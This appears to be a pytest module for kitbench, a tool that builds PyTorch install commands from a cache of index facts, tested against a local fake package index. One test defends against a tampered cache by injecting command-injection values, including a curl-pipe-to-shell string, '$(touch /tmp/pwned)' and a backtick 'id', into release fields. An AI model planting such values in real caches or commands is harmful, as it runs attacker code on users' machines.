"""kitbench.advice.facts: the fact cache read from the indexes, and install-cmd answering a release kitbench was
not built with. The indexes are a local server (127.0.0.1, its own port) serving PyPI's pages as recorded
(tests/resources/index/) plus a made-up next release, 2.16.0, and PyTorch-index-shaped pages."""

from __future__ import annotations

import contextlib
import copy
import hashlib
import http.server
import json
import os
import socket
import threading
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kitbench import _http
from kitbench._cli import main
from kitbench.advice import facts, indexes, releases, wheels
from kitbench.errors import NetworkError, RecordError
from kitbench.records import manifest

CACHE_DIR = facts.cache_dir  # the real lookup: conftest replaces it with an empty folder for other tests
PYPI_PAGES = Path(__file__).resolve().parent.parent / "resources" / "index" / "pypi"
JSON = "application/vnd.pypi.simple.v1+json"
NEW_UPLOAD = "2027-01-20T15:00:00Z"
# 2.16.0: Python 3.12 to 3.15 (3.11 dropped), macOS 15 (raised from 14), builds cu130, cu132, rocm7.2, xpu, cpu,
# and cu140, a CUDA kitbench has no driver facts for.
NEW_PYTHONS = ("cp312", "cp313", "cp314", "cp315")
NEW_BUILDS = ("cu130", "cu132", "cu140", "rocm7.2", "xpu", "cpu")
LINUX, MAC, WIN = "manylinux_2_28_x86_64", "macosx_15_0_arm64", "win_amd64"


def _wheel(name: str, version: str, python: str, platform: str) -> str:
    abi = "none" if python == "py3" else python
    return f"{name}-{version}-{python}-{abi}-{platform}.whl"


def _pypi_page(package: str) -> bytes:
    """The recorded page, with 2.16.0 (and its torchvision 0.30.0, torchaudio 2.16.0) added as PyPI lists them."""
    data = json.loads((PYPI_PAGES / f"{package}.json").read_text())
    version, pythons, requires = {
        "torch": ("2.16.0", NEW_PYTHONS, ">=3.12"),
        "torchvision": ("0.30.0", ("py3",), ">=3.12"),
        "torchaudio": ("2.16.0", NEW_PYTHONS, ">=3.12"),
    }[package]
    for python in pythons:
        for platform in (LINUX, "manylinux_2_28_aarch64", MAC, WIN):
            name = _wheel(package, version, python, platform)
            data["files"].append(
                {
                    "filename": name,
                    "hashes": {"sha256": hashlib.sha256(name.encode()).hexdigest()},
                    "requires-python": requires,
                    "upload-time": NEW_UPLOAD,
                    "yanked": False,
                    "url": f"/files/{name}",
                    "core-metadata": package != "torch",
                }
            )
    data["versions"].append(version)
    return json.dumps(data).encode()


def _index_page(package: str) -> bytes:
    """whl/<package>/ as download.pytorch.org serves it (PEP 503): every compute platform's builds."""
    rows = {
        "torch": [
            ("2.15.0", "cu132", ("cp311", "cp312", "cp313", "cp314", "cp315")),
            ("2.15.0", "cpu", ("cp311", "cp312", "cp313", "cp314", "cp315")),
        ]
        + [("2.16.0", build, NEW_PYTHONS) for build in NEW_BUILDS],
        "torchvision": [("0.29.2", "cu132", ("py3",)), ("0.30.0", "cu132", ("py3",)), ("0.30.0", "cpu", ("py3",))],
        "torchaudio": [("2.16.0", "cpu", NEW_PYTHONS)],
    }[package]
    links = []
    for version, build, pythons in rows:
        platforms = [LINUX] + ([WIN] if build.startswith("cu") or build in ("cpu", "xpu") else [])
        for python in pythons:
            for platform in platforms:
                name = _wheel(package, f"{version}+{build}", python, platform)
                links.append(
                    f'<a href="/whl/{build}/{name.replace("+", "%2B")}#sha256='
                    f'{hashlib.sha256(name.encode()).hexdigest()}" data-requires-python="&gt;=3.10">'
                    f"{name}</a><br/>"
                )
    return (
        "<!DOCTYPE html>\n<html><body><h1>Links for " + package + "</h1>\n" + "\n".join(links) + "\n</body></html>\n"
    ).encode()


class Index(http.server.ThreadingHTTPServer):
    pages: dict[str, tuple[str, bytes]]
    requests: Counter[str]
    drip: dict[str, float]  # path -> seconds between the bytes of its body (a hostile index's pace)


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Index

    def do_GET(self) -> None:
        self.server.requests[self.path] += 1
        page = self.server.pages.get(self.path)
        if page is None:
            self.send_error(404)
            return
        kind, body = page
        etag = '"' + hashlib.sha256(body).hexdigest()[:16] + '"'
        if self.headers.get("If-None-Match") == etag:
            self.send_response(304)
            self.send_header("ETag", etag)
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("ETag", etag)
        self.end_headers()
        pace = self.server.drip.get(self.path)
        if pace is None:
            self.wfile.write(body)
            return
        stop = time.monotonic() + 3  # the server stops by itself, whatever the client does
        for byte in body:
            if time.monotonic() > stop:
                return
            self.wfile.write(bytes([byte]))
            self.wfile.flush()
            time.sleep(pace)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Index]:
    """The local index, the environment pointing kitbench at it, and a private cache."""
    server = Index(("127.0.0.1", 0), _Handler)
    server.requests = Counter()
    server.pages = {}
    server.drip = {}
    for package in indexes.PACKAGES:
        server.pages[f"/simple/{package}/"] = (JSON, _pypi_page(package))
        server.pages[f"/whl/{package}/"] = ("text/html", _index_page(package))
    for python in ("py3", *NEW_PYTHONS):
        for package, version in (("torchvision", "0.30.0"), ("torchaudio", "2.16.0")):
            for platform in (LINUX, "manylinux_2_28_aarch64", MAC, WIN):
                server.pages[f"/files/{_wheel(package, version, python, platform)}.metadata"] = (
                    "text/plain",
                    f"Metadata-Version: 2.1\nName: {package}\nRequires-Dist: torch==2.16.0\n".encode(),
                )
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    port = server.server_address[1]
    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{port}/simple")
    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, f"http://127.0.0.1:{port}/whl/")
    monkeypatch.setenv("KITBENCH_CACHE", str(tmp_path / "cache" / "kitbench"))
    monkeypatch.delenv(facts.MAX_AGE_VARIABLE, raising=False)
    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
    yield server
    server.shutdown()
    server.server_close()


def _answer(capsys: pytest.CaptureFixture[str], *argv: str) -> dict[str, object]:
    assert main(["install-cmd", "--json", *argv]) == 0
    answer: dict[str, object] = json.loads(capsys.readouterr().out)
    return answer


LINUX_GPU = (
    "--os",
    "linux",
    "--arch",
    "x86_64",
    "--python-version",
    "3.13",
    "--glibc",
    "2.35",
    "--driver",
    "590.48.01",
    "--gpu-cc",
    "8.9",
)


def test_a_new_release_is_answered_from_a_refresh_alone_for_linux_windows_and_macos(
    index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["install-cmd", "--release", "2.16.0", *LINUX_GPU]) == 2
    assert "unknown release '2.16.0'" in capsys.readouterr().err

    assert main(["facts", "refresh"]) == 0
    err = capsys.readouterr().err
    assert "torch 2.16.0 with torchvision 0.30.0: rocm7.2, cu130, cu132, cpu (derived from the index)" in err

    for release in ("2.16.0", "stable"):
        linux = _answer(capsys, "--release", release, *LINUX_GPU)
        assert linux["release"] == "2.16.0" and linux["compute"] == "cu132"
        assert linux["command"] == (
            "pip install torch==2.16.0 torchvision==0.30.0 torchaudio==2.16.0 "
            "--index-url https://download.pytorch.org/whl/cu132"
        )
        assert linux["verified"] is False
        notes = " ".join(map(str, linux["notes"]))  # type: ignore[call-overload]
        assert f"derived from http://127.0.0.1:{index.server_address[1]}/whl/torch/ as read on" in notes
        assert "not copied from pytorch.org" in notes and "Requires-Dist (PEP 658 metadata)" in notes
        port = index.server_address[1]
        assert linux["facts"]["derived_from"]["index"] == f"http://127.0.0.1:{port}/whl/torch/"  # type: ignore[index]
        assert linux["facts"]["wheels"]["source"] == f"http://127.0.0.1:{port}/simple/torch/ (the fact cache)"  # type: ignore[index]
    assert main(["install-cmd", "--explain", *LINUX_GPU]) == 0
    err = capsys.readouterr().err
    assert f"# wheels: http://127.0.0.1:{index.server_address[1]}/simple/torch/ (the fact cache), read 20" in err
    assert (
        "note: torch 2.16.0, pinned form unverified: torch 2.16.0 is not in envs/releases/: its builds are "
        "derived from http://127.0.0.1:"
    ) in err
    # The driver floor comes from envs/drivers.yaml by CUDA version: a 13.x driver below 580 gets no cu13x build.
    old_driver = _answer(capsys, "--release", "2.16.0", *LINUX_GPU[:-4], "--driver", "550.54.14", "--gpu-cc", "8.9")
    assert old_driver["compute"] == "cpu"
    assert any("cu132: driver 550.54.14 < 580" in r for r in old_driver["rejected"])  # type: ignore[attr-defined]

    windows = _answer(
        capsys, "--release", "stable", "--os", "windows", "--arch", "x86_64", "--python-version", "3.12", "--no-gpu"
    )
    assert windows["command"] == (
        "pip install torch==2.16.0 torchvision==0.30.0 torchaudio==2.16.0 "
        "--index-url https://download.pytorch.org/whl/cpu"
    )
    # The listing names 2.16.0's +xpu files: an artifact, so the default answer takes it.
    intel = _answer(
        capsys, "--release", "2.16.0", "--os", "windows", "--arch", "x86_64", "--python-version", "3.13", "--intel-gpu"
    )
    assert intel["compute"] == "xpu" and intel["command"].endswith("/whl/xpu")  # type: ignore[attr-defined]
    assert intel["facts"]["build"]["kind"] == "artifact"  # type: ignore[index]
    amd = _answer(
        capsys,
        "--release",
        "2.16.0",
        "--os",
        "linux",
        "--arch",
        "x86_64",
        "--python-version",
        "3.13",
        "--gpu-gfx",
        "gfx942",
    )
    assert amd["compute"] == "rocm7.2"

    mac = _answer(
        capsys,
        "--release",
        "stable",
        "--os",
        "macos",
        "--arch",
        "arm64",
        "--python-version",
        "3.13",
        "--os-version",
        "15.1",
    )
    assert mac["command"] == "pip install torch==2.16.0 torchvision==0.30.0 torchaudio==2.16.0"
    # The raised macOS floor, read from the tags: on macOS 14 2.16.0 is refused with the reason, and 2.15.0, which
    # installs there, passed over for 2.14.1, whose MPS runs there (2.15's MPS needs macOS 15.0:
    # docs.pytorch.org/docs/2.15/notes/mps.html).
    mac14 = _answer(
        capsys,
        "--release",
        "stable",
        "--os",
        "macos",
        "--arch",
        "arm64",
        "--python-version",
        "3.13",
        "--os-version",
        "14.5",
    )
    assert (mac14["release"], mac14["compute"]) == ("2.14.1", "mps")
    assert "need macOS 15.0 or newer (macosx_15_0_arm64)" in " ".join(mac14["notes"])  # type: ignore[arg-type]
    # Python floors from the tags and Requires-Python: 3.15 is served, 3.11 was dropped.
    assert _answer(capsys, *LINUX_GPU[:4], "--python-version", "3.15", "--no-gpu")["release"] == "2.16.0"
    assert _answer(capsys, *LINUX_GPU[:4], "--python-version", "3.11", "--no-gpu")["release"] == "2.15.0"


def test_a_cuda_version_without_driver_facts_is_refused_with_the_reason_never_guessed(
    index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    answer = _answer(capsys, "--release", "2.16.0", *LINUX_GPU)
    assert any(
        "left out: cu140: envs/drivers.yaml has no driver floor or oldest GPU architecture for CUDA 14.0" in n
        for n in answer["notes"]
    )  # type: ignore[attr-defined]
    assert main(["install-cmd", "--release", "2.16.0", "--compute", "cu140", *LINUX_GPU]) == 2
    assert "torch 2.16.0 has no cu140 build" in capsys.readouterr().err


def test_an_unchanged_refresh_is_one_small_request_per_source(index: Index, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["facts", "refresh"]) == 0
    folder = facts.cache_dir()
    first = {p.name: json.loads(p.read_text()) for p in folder.glob("*.json")}
    index.requests.clear()
    assert main(["facts", "refresh"]) == 0
    assert "unchanged (304)" in capsys.readouterr().err
    assert sorted(index.requests.values()) == [1] * 6  # the six pages, no .metadata: pairs are kept
    again = {p.name: json.loads(p.read_text()) for p in folder.glob("*.json")}
    for name, data in first.items():
        if name != "releases.json":
            assert {**data, "checked": ""} == {**again[name], "checked": ""}
    assert again["releases.json"]["releases"] == first["releases.json"]["releases"]


def test_a_refresh_never_leaves_a_half_written_cache(
    index: Index, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["facts", "refresh"]) == 0
    folder = facts.cache_dir()
    before = {p.name: p.read_bytes() for p in folder.iterdir()}

    def fail(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)  # the disk filled as the first file was written
    with pytest.raises(RecordError, match="No space left on device"):
        indexes.refresh()
    monkeypatch.undo()
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before  # nothing half written, no .tmp left


def test_a_malformed_page_is_refused_and_the_cache_kept(index: Index) -> None:
    assert main(["facts", "refresh"]) == 0
    kept = (facts.cache_dir() / "pypi-torchvision.json").read_bytes()
    index.pages["/simple/torchvision/"] = (JSON, _pypi_page("torchvision")[:-400])
    with pytest.raises(NetworkError, match="malformed PEP 691 page"):
        indexes.refresh()
    assert (facts.cache_dir() / "pypi-torchvision.json").read_bytes() == kept


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_offline_a_refresh_fails_in_seconds_with_one_error_line_and_install_cmd_still_answers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    port = _closed_port()
    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{port}/simple/")
    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, f"http://127.0.0.1:{port}/whl/")
    monkeypatch.setenv("KITBENCH_CACHE", str(tmp_path / "kitbench"))
    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
    started = time.monotonic()
    assert main(["facts", "refresh"]) == 1
    assert time.monotonic() - started < 5
    err = capsys.readouterr().err
    assert [line for line in err.splitlines() if line.startswith("ERROR:")] == [
        f"ERROR: cannot reach 127.0.0.1:{port} ([Errno 111] Connection refused)"
    ]
    assert (
        f"hint: KITBENCH_PYTORCH_INDEX=http://127.0.0.1:{port}/whl/ is in force and names it: check that "
        "mirror; install-cmd answers from the facts it has" in err
    )
    assert main(["install-cmd", "--refresh", "--os", "linux", "--python-version", "3.12", "--no-gpu"]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==2.15.0 ")
    assert f"note: the facts were not refreshed: cannot reach 127.0.0.1:{port}" in err and "ERROR" not in err
    # Asked to refresh by age: tried once, then not again on every run until that age has passed.
    monkeypatch.setenv(facts.MAX_AGE_VARIABLE, "1h")
    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
    assert "not refreshed" not in capsys.readouterr().err


def test_a_refresh_that_reads_pypi_but_not_pytorch_s_index_says_which_it_read(
    index: Index, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The issue's "the facts were not refreshed" while PyPI's pages were: what was read is said, and kept."""
    port = _closed_port()
    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, f"http://127.0.0.1:{port}/whl/")
    assert main(["install-cmd", "--refresh", "--os", "linux", "--python-version", "3.12", "--no-gpu"]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==")
    assert (
        "note: the facts were refreshed in part: read PyPI's torch, torchvision, torchaudio pages; not read "
        f"PyTorch's index's torch, torchvision, torchaudio pages: cannot reach 127.0.0.1:{port}"
    ) in err, err
    assert "not refreshed" not in err and "; answering from what was read and the facts at hand" in err
    written = sorted(p.name for p in facts.cache_dir().glob("*.json"))
    assert written == ["pypi-torch.json", "pypi-torchaudio.json", "pypi-torchvision.json", "releases.json"]


def test_install_cmd_refreshes_by_itself_only_past_the_age_the_user_set(
    index: Index, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
    assert not index.requests and not facts.cache_dir().exists()  # never automatically, by default
    monkeypatch.setenv(facts.MAX_AGE_VARIABLE, "7d")
    assert main(["install-cmd", "--os", "linux", "--python-version", "3.13", "--no-gpu"]) == 0
    assert "torch==2.16.0" in capsys.readouterr().out  # no cache: older than any age
    index.requests.clear()
    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
    assert not index.requests  # fresh: not read again
    monkeypatch.setenv(facts.MAX_AGE_VARIABLE, "soon")
    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 2
    assert "ERROR: malformed KITBENCH_FACTS_MAX_AGE 'soon'" in capsys.readouterr().err


def test_facts_older_than_sixty_days_say_so_once_with_how_to_refresh(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import datetime

    monkeypatch.setenv("KITBENCH_CACHE", str(tmp_path / "kitbench"))
    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
    read = datetime.datetime(2026, 11, 24, tzinfo=datetime.timezone.utc)
    assert facts.stale_note("2026-11-24", now=read + datetime.timedelta(days=60)) is None
    note = facts.stale_note("2026-11-24", now=read + datetime.timedelta(days=75))
    assert note is not None and "75 days old (read 2026-11-24)" in note and "kitbench facts refresh" in note


def test_the_recorded_pypi_pages_give_the_baked_facts_exactly() -> None:
    """Baked (envs/wheels.yaml, written by envs/scripts/fetch_wheels.py through this code) and live facts agree."""
    baked = manifest.load(manifest.envs_dir() / "wheels.yaml", "wheels").data["releases"]
    for package, version, key in (
        ("torch", "2.15.0", "torch"),
        ("torchvision", "0.29.2", "torchvision"),
        ("torch", "2.14.1", "torch"),
    ):
        answer = _http.Response(
            "https://pypi.org/simple/x/", 200, (PYPI_PAGES / f"{package}.json").read_bytes(), JSON, None, None
        )
        release = indexes.summarize(indexes.page_files(answer), package)[version]
        entry = copy.deepcopy(next(e for e in baked if e[key] == version)["wheels"][package])
        assert release["requires_python"] == [entry.pop("requires_python")]
        assert release["builds"] == {"": entry}


def test_yanked_files_and_other_projects_are_left_out() -> None:
    answer = _http.Response(
        "https://pypi.org/simple/x/", 200, (PYPI_PAGES / "torchvision.json").read_bytes(), JSON, None, None
    )
    assert "0.1.6" not in indexes.summarize(indexes.page_files(answer), "torchvision")
    assert indexes.summarize(indexes.page_files(answer), "torch") == {}


def test_an_index_page_in_pep_503_html_gives_each_build_and_its_tags() -> None:
    answer = _http.Response(
        "https://download.pytorch.org/whl/torch/", 200, _index_page("torch"), "text/html", None, None
    )
    files = indexes.page_files(answer)
    assert files[0].url.startswith("https://download.pytorch.org/whl/cu132/torch-2.15.0%2Bcu132-cp311")
    builds = indexes.summarize(files, "torch")["2.16.0"]["builds"]
    assert sorted(builds) == sorted(NEW_BUILDS)
    assert builds["cu132"] == {LINUX: "cp312 cp313 cp314 cp315", WIN: "cp312 cp313 cp314 cp315"}


def test_pypi_is_read_where_pip_reads_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("PIP_INDEX_URL", "PIP_CONFIG_FILE", "VIRTUAL_ENV"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    conf = tmp_path / "pip.conf"
    conf.write_text("[global]\nindex-url = https://mirror.example/simple\n")
    monkeypatch.setenv("PIP_CONFIG_FILE", str(conf))
    assert indexes.pypi_index() == "https://mirror.example/simple/"
    monkeypatch.setenv("PIP_INDEX_URL", "https://other.example/pypi/simple/")
    assert indexes.pypi_index() == "https://other.example/pypi/simple/"
    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, "https://mirror.example/whl")
    assert [s.url for s in indexes.sources(("torch",))] == [
        "https://other.example/pypi/simple/torch/",
        "https://mirror.example/whl/torch/",
    ]
    # pip's own spellings: index_url is index-url; [install] wins over [global]; os.devnull means no file.
    monkeypatch.delenv("PIP_INDEX_URL")
    conf.write_text(
        "[global]\nindex-url = https://mirror.example/simple\n[install]\nindex_url = https://in.example/s\n"
    )
    assert indexes.pypi_index() == "https://in.example/s/"
    (tmp_path / ".pip").mkdir()
    (tmp_path / ".pip" / "pip.conf").write_text("[global]\nindex_url = https://home.example/simple\n")
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    assert indexes.pypi_index() == indexes.PYPI


def test_without_a_cache_nothing_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KITBENCH_CACHE", str(tmp_path / "kitbench"))
    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
    assert facts.cached() == {} and facts.derived() == [] and facts.checked() is None


@pytest.mark.parametrize(
    "text",
    [
        '{"releases": []}',
        '{"format": 1, "releases": [{"version": "2.16.0"}]}',
        '{"format": 1, "releases": 7}',
        "[1, 2",
        '{"format": 1, "checked": "soon"}',
    ],
)
def test_a_cache_in_another_form_is_a_note_and_install_cmd_answers_from_the_baked_facts(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("KITBENCH_CACHE", str(tmp_path / "kitbench"))
    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{_closed_port()}/simple/")
    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, f"http://127.0.0.1:{_closed_port()}/whl/")
    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
    folder = tmp_path / "kitbench" / "facts"
    folder.mkdir(parents=True)
    (folder / "releases.json").write_text(text)
    assert main(["install-cmd", "--os", "linux", "--no-gpu", "--release", "2.14.0"]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==2.14.0 ") and "Traceback" not in err
    if "checked" not in text:
        assert "releases.json" in err and ("not the fact cache this kitbench writes" in err or "left out 1" in err)
    assert main(["facts", "refresh"]) == 1  # offline: the sources fail, releases.json is rewritten
    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
    assert "releases.json" not in capsys.readouterr().err


def test_without_metadata_torchvision_is_paired_by_upload_date_and_the_answer_says_so(
    index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    page = json.loads(_pypi_page("torchvision"))
    for entry in page["files"]:
        entry.pop("core-metadata", None)
    index.pages["/simple/torchvision/"] = (JSON, json.dumps(page).encode())
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    answer = _answer(capsys, "--release", "2.16.0", *LINUX_GPU)
    assert "torchvision==0.30.0" in answer["command"]  # type: ignore[operator]
    assert any("torchvision 0.30.0 is paired by upload date" in n for n in answer["notes"])  # type: ignore[attr-defined]
    assert not [path for path in index.requests if path.startswith("/files/torchvision")]


def test_a_refresh_records_torchaudios_wheels_and_install_cmd_checks_them(
    index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    audio = wheels.load().releases["2.16.0"]["torchaudio"]
    assert audio.version == "2.16.0" and {p.tag for p in audio.tags} >= {LINUX, MAC, WIN}
    # Like torchvision's: a Python its wheels lack refuses the release.
    assert wheels._refusal(audio, "torchaudio", wheels.Host("linux", "x86_64", (3, 11))) is not None


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("version", "2.16.0; curl http://127.0.0.1:9/x | sh"),
        ("torchvision", "0.30.0 --index-url http://127.0.0.1:9/evil"),
        ("torchaudio", "$(touch /tmp/pwned)"),
        ("computes", ["cu132", "cpu`id`"]),
        ("version", "2.16.0\n"),
    ],
)
def test_a_tampered_cache_never_reaches_the_command_users_eval(
    field: str, value: object, index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    """The cache is a file in the user's home that `eval "$(kitbench install-cmd)"` would trust: every
    word of it that reaches the command is checked against the form an index can give; a release that fails
    is left out, with a note, and install-cmd answers from the rest."""
    assert main(["facts", "refresh"]) == 0
    path = CACHE_DIR() / "releases.json"
    data = json.loads(path.read_text())
    data["releases"][0][field] = value
    path.write_text(json.dumps(data))
    facts.reload()
    capsys.readouterr()
    assert main(["install-cmd", *LINUX_GPU]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("pip install torch==2.15.0 ") and "127.0.0.1:9" not in out and "$(" not in out
    assert "releases.json: left out 1 release(s) whose facts are not in the form a refresh writes" in err
    assert "Traceback" not in err


def test_a_cache_file_too_large_to_be_ours_is_refused_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KITBENCH_CACHE", str(tmp_path / "kitbench"))
    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
    folder = CACHE_DIR()
    folder.mkdir(parents=True)
    with (folder / "releases.json").open("wb") as handle:
        handle.truncate(facts.MAX_BYTES + 1)  # sparse: no disk used
    facts.reload()
    assert facts.cached() == {} and facts.derived() == []
    assert "not the fact cache this kitbench writes" in facts.notes()[0]


def test_an_index_token_is_used_and_never_written_to_the_cache(
    index: Index, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """PIP_INDEX_URL=https://user:token@mirror/simple, as pip takes it: the refresh reads with it, and
    neither the cache nor any message carries the token."""
    plain = os.environ["PIP_INDEX_URL"]
    monkeypatch.setenv("PIP_INDEX_URL", plain.replace("http://", "http://me:s3cret-t0ken@"))
    assert main(["facts", "refresh"]) == 0
    assert main(["install-cmd", "--release", "2.16.0", "--explain", *LINUX_GPU]) == 0
    out, err = capsys.readouterr()
    assert "s3cret" not in out + err
    written = [p for p in CACHE_DIR().rglob("*") if p.is_file()]
    assert written and not any(b"s3cret" in p.read_bytes() for p in written)


def _listing(rows: list[tuple[str, str]], platforms: dict[tuple[str, str], tuple[str, ...]] | None = None) -> bytes:
    """whl/torch/ listing exactly ``rows`` (version, build), Linux x86_64 wheels for Python 3.12 (or the platform
    tags ``platforms`` gives a row), as download.pytorch.org/whl/torch/ names them."""
    links = [
        f'<a href="/whl/{b}/{name.replace("+", "%2B")}">{name}</a><br/>'
        for v, b in rows
        for platform in (platforms or {}).get((v, b), (LINUX,))
        for name in [_wheel("torch", f"{v}+{b}", "cp312", platform)]
    ]
    return ("<html><body>\n" + "\n".join(links) + "\n</body></html>\n").encode()


def test_a_refresh_takes_each_build_s_listing_on_the_index_as_the_truth(
    index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    """An index listing what PyTorch published (2.15.0 in cpu, cu130 and cu132; 2.14.1 also in cu126 and ROCm
    7.2): a build the index does not list is no longer answered, even named; one it lists is published."""
    h100 = ("--os", "linux", "--python-version", "3.12", "--glibc", "2.35", "--driver", "570.86.10", "--gpu-cc", "9.0")
    named = ("--release", "2.15.0", "--compute", "rocm7.14")
    before = _answer(capsys, *h100, *named)  # known only from a nightly matrix: answered when named, marked so
    assert before["facts"]["build"]["kind"] == "inferred"  # type: ignore[index]
    index.pages["/whl/torch/"] = (
        "text/html",
        _listing(
            [("2.15.0", b) for b in ("cpu", "cu130", "cu132")]
            + [("2.14.1", b) for b in ("cpu", "cu126", "cu130", "cu132", "rocm7.2", "rocm7.14")]
        ),
    )
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()

    assert main(["install-cmd", *h100, *named]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "ERROR: torch 2.15.0 has no rocm7.14 build for pip on linux x86_64" and len(err) == 2
    assert main(["install-cmd", *h100, "--release", "2.15.0", "--compute", "cu126"]) == 2
    assert capsys.readouterr().err.startswith("ERROR: torch 2.15.0 has no cu126 build")
    default = _answer(capsys, *h100)
    assert (default["release"], default["compute"]) == ("2.14.1", "cu126")
    # 2.14.1's ROCm 7.2 is listed: the listing, an artifact, is its source now.
    rocm = _answer(capsys, *h100[:6], "--gpu-gfx", "gfx906")
    assert (rocm["release"], rocm["compute"]) == ("2.14.1", "rocm7.2")
    assert rocm["facts"]["build"]["kind"] == "artifact"  # type: ignore[index]
    assert f"127.0.0.1:{index.server_address[1]}/whl/torch/" in rocm["facts"]["build"]["source"]  # type: ignore[index]


def test_the_weekly_workflow_s_script_takes_out_of_the_manifests_what_the_index_does_not_list(
    index: Index, envs_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """envs/scripts/index_builds.py, which .github/workflows/facts.yml runs after the refresh: 2.15.0's ROCm
    builds (inferred from a nightly matrix) are not on the index and leave 2.15.yaml; a release not listed is left
    alone."""
    import runpy

    script = Path(__file__).resolve().parents[2] / "envs" / "scripts" / "index_builds.py"
    run = runpy.run_path(str(script))["main"]
    with pytest.raises(SystemExit, match="1"):
        runpy.run_path(str(script), run_name="__main__")
    assert capsys.readouterr().err.splitlines() == [
        "ERROR: no index listing in the fact cache",
        "hint: run `kitbench facts refresh` first",
    ]
    index.pages["/whl/torch/"] = (
        "text/html",
        _listing([("2.15.0", b) for b in ("cpu", "cu130", "cu132")] + [("2.14.1", b) for b in ("cpu", "cu126", "xpu")]),
    )
    assert main(["facts", "refresh"]) == 0
    capsys.readouterr()
    before = (envs_copy / "releases" / "2.13.yaml").read_text()
    assert run() == 0
    out = capsys.readouterr().out
    assert "torch 2.15.0: rocm7.14, rocm10.0 not on the index, taken out of 2.15.yaml" in out
    assert "    wheels: [cu130, cu132, cpu]\n" in (envs_copy / "releases" / "2.15.yaml").read_text()
    assert "    wheels: [cu126, cpu]\n" in (envs_copy / "releases" / "2.14.yaml").read_text()
    assert (envs_copy / "releases" / "2.13.yaml").read_text() == before  # not listed: left alone
    manifest.load(envs_copy / "releases" / "2.15.yaml", "release")  # still valid
    # Where each release's builds are is the parser's to say: a release whose version is not its first key is
    # edited in its own line; builds written as a block list are refused in one line, the file left as it was.
    path = envs_copy / "releases" / "2.14.yaml"
    text = path.read_text()
    odd = text.replace(
        '  - version: "2.14.1"\n    torchvision: "0.29.1"\n    wheels: [cu126, cpu]\n',
        '  - torchvision: "0.29.1"\n    wheels: [rocm7.2, cu126, cpu]\n    version: "2.14.1"\n',
    )
    assert odd != text
    path.write_text(odd)
    assert run() == 0
    assert "torch 2.14.1: rocm7.2 not on the index, taken out of 2.14.yaml" in capsys.readouterr().out
    assert path.read_text() == odd.replace("[rocm7.2, cu126, cpu]", "[cu126, cpu]")
    path.write_text(odd.replace("    wheels: [rocm7.2, cu126, cpu]\n", "    wheels:\n      - rocm7.2\n      - cpu\n"))
    before = path.read_bytes()
